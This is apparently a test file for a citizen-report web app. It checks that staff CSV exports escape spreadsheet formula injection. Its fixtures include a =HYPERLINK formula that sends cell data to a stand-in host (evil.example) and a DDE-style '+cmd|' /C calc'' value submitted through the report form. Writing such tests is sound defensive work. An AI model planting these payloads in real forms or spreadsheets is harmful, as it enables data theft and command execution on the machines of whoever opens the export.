// Spreadsheet formula injection: text a citizen submits must reach staff CSV exports as text, never as a formula.
import { test, expect } from "bun:test";
import { testApp, Client, makeUser } from "../testing/index.ts";
import { challengeAnswer } from "../public/abuse.ts";
import { csvCell, toCsvText } from "../core/csv.ts";
import { toCsv } from "../evaluation/index.ts";

const EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击")';

test("the one CSV writer neutralises every formula lead character and quotes", () => {
  for (const lead of ["=", "+", "-", "@", "\t", "\r"]) expect(csvCell(`${lead}1+1`)).toBe(`"'${lead}1+1"`);
  expect(csvCell("普通文本")).toBe('"普通文本"');
  expect(csvCell(-3)).toBe("-3");
  expect(csvCell(null)).toBe('""');
  expect(toCsvText([["a", 'b"c']])).toBe('\ufeff"a","b""c"\r\n');
});

test("evaluation CSV neutralises a formula in a cell", () => {
  const csv = toCsv({ title: "t", headers: ["问题描述"], rows: [[EVIL], [{ text: "@SUM(1)" }]] });
  expect(csv).toContain(`"'=HYPERLINK(`);
  expect(csv).toContain(`"'@SUM(1)"`);
  expect(csv).not.toMatch(/(^|,|\n)=HYPERLINK/);
});

test("a portal report with =HYPERLINK(...) reaches /cases/export.csv as text", async () => {
  const t = testApp();
  const cl = new Client(t);
  const html = await (await cl.get("/p/report")).text();
  const id = /name="challenge" value="([^"]+)"/.exec(html)![1]!;
  const fd = new FormData();
  fd.append("_csrf", await cl.csrf());
  fd.append("challenge", id);
  fd.append("answer", String(challengeAnswer(t.deps.config.dataDir, id)));
  fd.append("description", EVIL);
  fd.append("address", "+cmd|' /C calc'!A0");
  expect((await cl.request("/p/report", { method: "POST", body: fd })).status).toBe(200);
  await makeUser(t, "intake_a", ["intake"]);
  const staff = new Client(t, "10.0.0.9");
  await staff.login("intake_a");
  const csv = await (await staff.get("/cases/export.csv?queue=all")).text();
  expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""点击"")"`);
  expect(csv).toContain(`"'+cmd|' /C calc'!A0"`);
  for (const line of csv.split("\r\n")) for (const cell of line.split(",")) expect(cell).not.toMatch(/^"?[=+@]/);
});
